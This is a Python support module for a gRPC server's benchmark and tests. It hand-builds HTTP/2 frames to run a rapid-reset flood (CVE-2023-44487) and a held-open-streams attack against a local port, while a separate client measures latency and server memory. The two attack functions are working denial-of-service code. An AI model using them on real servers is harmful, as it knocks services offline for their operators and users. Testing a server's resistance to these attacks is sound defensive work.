"""Hostile HTTP/2 clients of a gRPC port, and the well-behaved client beside them, each in a process
of its own, for bench/serve_exposed.py and tests/serving/test_http2_abuse.py. The attacks write
frames by hand on one TCP connection, ignoring what the server advertises
(SETTINGS_MAX_CONCURRENT_STREAMS), acking its SETTINGS and PINGs as a client must.

- `rapid-reset` (CVE-2023-44487): each stream is HEADERS, a DATA frame with the gRPC message and
  END_STREAM, then RST_STREAM(CANCEL) at once, as fast as the socket takes them.
- `held-streams`: HEADERS without END_STREAM on `--streams` streams, then nothing: every stream stays
  open (no message, never half-closed) until the connection ends.

- `bystander`: a grpcio client on a connection of its own calling Predict (the --body message) every
  20 ms for `seconds`, after one call to warm up; with --watch-pid, it samples the resident memory
  of that process and its descendants (the server) every 0.1 s meanwhile. It prints `ready` once
  warm, so that an attack can start then.

An attack prints one JSON line when `seconds` have passed or the server closed the connection: the
streams opened, the server's RST_STREAM frames by error code, its GOAWAY (error code, last stream id,
after how many seconds), and whether the server closed the connection. The bystander prints its
calls, failures by status code, p50/p99/max latency and the server's memory before and at its peak.

With --watch-pid on an attack, the bystander runs beside it (started first, warm before the attack
starts, calling until 2 s after it ended) and the line is `{"attack": ..., "bystander": ...}`.

    python bench/_support/h2_attackers.py PORT {rapid-reset,held-streams,bystander} SECONDS
        [--streams N] [--body FILE] [--watch-pid PID]
"""

from __future__ import annotations

import argparse
import collections
import json
import pathlib
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
INITIAL_WINDOW = 65_535  # HTTP/2's connection flow-control window before any WINDOW_UPDATE
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0xB: "ENHANCE_YOUR_CALM",
}
METHOD = "/tensorflow.serving.PredictionService/Predict"
BATCH = 64  # streams written per sendall


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(port: int) -> bytes:
    """A gRPC request's headers, HPACK-encoded without the dynamic table (each field a static index
    or a never-indexed literal), so that the same bytes open any number of streams."""
    import hpack

    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", METHOD),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return hpack.Encoder().encode([(name, value, True) for name, value in fields])


class Connection:
    """One HTTP/2 connection to 127.0.0.1:`port`; a thread reads the server's frames, acks its
    SETTINGS and PINGs, counts its RST_STREAMs and notes its GOAWAY or the connection's end."""

    def __init__(self, port: int):
        self.started = time.monotonic()
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.resets, self.goaway, self.closed_after = collections.Counter(), None, None
        self.closing = False  # set when this side closes: the connection's end is then not the server's doing
        self.window = (
            INITIAL_WINDOW  # what the server lets this connection send as DATA (WINDOW_UPDATE on stream 0)
        )
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data: bytes) -> None:
        with self.lock:
            self.sock.sendall(data)

    @property
    def open(self) -> bool:
        return self.closed_after is None and self.goaway is None

    def _read(self) -> None:
        buffer = b""
        try:
            while chunk := self.sock.recv(1 << 16):
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
                    stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                    buffer = buffer[9 + length :]
                    self._on_frame(kind, flags, stream, payload)
        except OSError:
            pass
        if not self.closing:
            self.closed_after = time.monotonic() - self.started

    def _on_frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and stream == 0:
            with self.lock:
                self.window += int.from_bytes(payload, "big") & 0x7FFFFFFF
        elif kind == RST_STREAM:
            code = int.from_bytes(payload, "big")
            self.resets[ERROR_CODES.get(code, hex(code))] += 1
        elif kind == GOAWAY and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {
                "error": ERROR_CODES.get(code, hex(code)),
                "last_stream_id": last & 0x7FFFFFFF,
                "after_seconds": round(time.monotonic() - self.started, 2),
                "debug": payload[8:200].decode(errors="replace"),
            }

    def close(self) -> None:
        self.closing = True
        try:
            self.sock.close()
        except OSError:
            pass
        self.reader.join(timeout=5)

    def outcome(self, streams: int, stopped: str) -> dict:
        return {
            "streams": streams,
            "stopped": stopped,
            "resets": dict(self.resets),
            "goaway": self.goaway,
            "closed_by_server_after_seconds": None
            if self.closed_after is None
            else round(self.closed_after, 2),
        }


def rapid_reset(port: int, seconds: float, message: bytes, most: int) -> dict:
    """HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL) per stream, as fast as the server reads them.
    The DATA keeps within the connection's flow-control window (a server may close a connection
    that overflows it); while the window is spent a stream is HEADERS(END_STREAM) + RST_STREAM."""
    connection, headers = Connection(port), header_block(port)
    head, bare = frame(HEADERS, END_HEADERS, 0, headers), frame(HEADERS, END_HEADERS | END_STREAM, 0, headers)
    data, reset = frame(DATA, END_STREAM, 0, message), frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL))
    deadline, stream, stopped = time.monotonic() + seconds, 1, "time"

    def on(stream_frame: bytes, stream_id: int) -> bytes:
        return stream_frame[:5] + struct.pack(">I", stream_id) + stream_frame[9:]

    try:
        while True:
            if time.monotonic() > deadline:
                break
            if not connection.open:
                stopped = "server"
                break
            if stream // 2 >= most:
                stopped = "streams"
                break
            batch = []
            for stream_id in range(stream, stream + 2 * BATCH, 2):
                with connection.lock:
                    with_data = connection.window >= len(message)
                    connection.window -= len(message) if with_data else 0
                batch += [on(head, stream_id), on(data, stream_id)] if with_data else [on(bare, stream_id)]
                batch.append(on(reset, stream_id))
            stream += 2 * BATCH
            connection.send(b"".join(batch))
    except OSError:  # the server closed it, or stopped reading for 10 s
        stopped = "server" if not connection.open else "write blocked"
    time.sleep(0.5)  # the server's last frames (a GOAWAY) arrive
    connection.close()
    return connection.outcome(stream // 2, stopped)


def held_streams(port: int, seconds: float, count: int) -> dict:
    """`count` streams opened with HEADERS alone, then held open for `seconds`."""
    connection = Connection(port)
    head, stopped, opened = frame(HEADERS, END_HEADERS, 0, header_block(port)), "time", 0
    try:
        for first in range(0, count, BATCH):
            ids = range(2 * first + 1, 2 * min(first + BATCH, count) + 1, 2)
            connection.send(b"".join(head[:5] + struct.pack(">I", stream_id) + head[9:] for stream_id in ids))
            opened += len(ids)
        deadline = time.monotonic() + seconds
        while (
            time.monotonic() < deadline and connection.closed_after is None
        ):  # held past a GOAWAY, until closed
            time.sleep(0.1)
        stopped = "time" if connection.closed_after is None else "server"
    except OSError:
        stopped = "server" if not connection.open else "write blocked"
    connection.close()
    return connection.outcome(opened, stopped)


def bystander(port: int, seconds: float, message: bytes, watch_pid: int | None) -> dict:
    """Predict every 20 ms on a channel of its own (the message's bytes sent as they are, no
    TensorFlow needed); the latencies and failures, and the watched server's memory meanwhile."""
    import grpc

    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
    from serve_latency import rss_bytes  # the server's processes, all of them

    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        predict = channel.unary_unary(METHOD, request_serializer=None, response_deserializer=None)
        predict(message, timeout=30)  # warm: the first call's costs are not the attack's
        idle = peak = rss_bytes(watch_pid) if watch_pid else 0
        stop = threading.Event()

        def watch():
            nonlocal peak
            while not stop.wait(0.1):
                peak = max(peak, rss_bytes(watch_pid))

        watcher = threading.Thread(target=watch, daemon=True)
        if watch_pid:
            watcher.start()
        print("ready", flush=True)
        latencies, failures = [], collections.Counter()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            started = time.monotonic()
            try:
                predict(message, timeout=10)
            except grpc.RpcError as error:
                failures[error.code().name] += 1
            latencies.append(time.monotonic() - started)
            time.sleep(max(0.0, 0.02 - latencies[-1]))
        stop.set()
    latencies.sort()

    def quantile(q: float) -> float:
        return round(latencies[int(q * (len(latencies) - 1))], 4)

    return {
        "calls": len(latencies),
        "failed": dict(failures),
        "p50": quantile(0.5),
        "p99": quantile(0.99),
        "max": quantile(1.0),
        "rss_idle": idle,
        "rss_peak": peak,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=("rapid-reset", "held-streams", "bystander"))
    parser.add_argument(
        "seconds",
        type=float,
        help="how long the attack (or the bystander's calls) lasts; held-streams: how long they are held",
    )
    parser.add_argument(
        "--streams",
        type=int,
        default=None,
        help="rapid-reset: at most this many streams (default: no bound but time); "
        "held-streams: how many to open (default: 20000)",
    )
    parser.add_argument(
        "--body",
        help="a file holding one length-prefixed gRPC message, a PredictRequest (default: an empty message)",
    )
    parser.add_argument("--watch-pid", type=int, help="bystander: the server process whose memory to sample")
    args = parser.parse_args()
    message = pathlib.Path(args.body).read_bytes() if args.body else b"\x00\x00\x00\x00\x00"
    if args.attack == "bystander":
        print(json.dumps(bystander(args.port, args.seconds, message[5:], args.watch_pid)), flush=True)
        return
    beside = None
    if args.watch_pid:
        import subprocess

        command = [
            sys.executable,
            __file__,
            str(args.port),
            "bystander",
            str(args.seconds + 2),
            "--watch-pid",
            str(args.watch_pid),
            *(["--body", args.body] if args.body else []),
        ]
        beside = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
        if beside.stdout.readline().strip() != "ready":
            raise SystemExit(f"the bystander did not start: {beside.communicate()[0]}")
    if args.attack == "rapid-reset":
        outcome = rapid_reset(args.port, args.seconds, message, args.streams or 1 << 30)
    else:
        outcome = held_streams(args.port, args.seconds, args.streams or 20_000)
    if beside is not None:
        outcome = {"attack": outcome, "bystander": json.loads(beside.communicate(timeout=120)[0].strip())}
    print(json.dumps(outcome), flush=True)


if __name__ == "__main__":
    main()
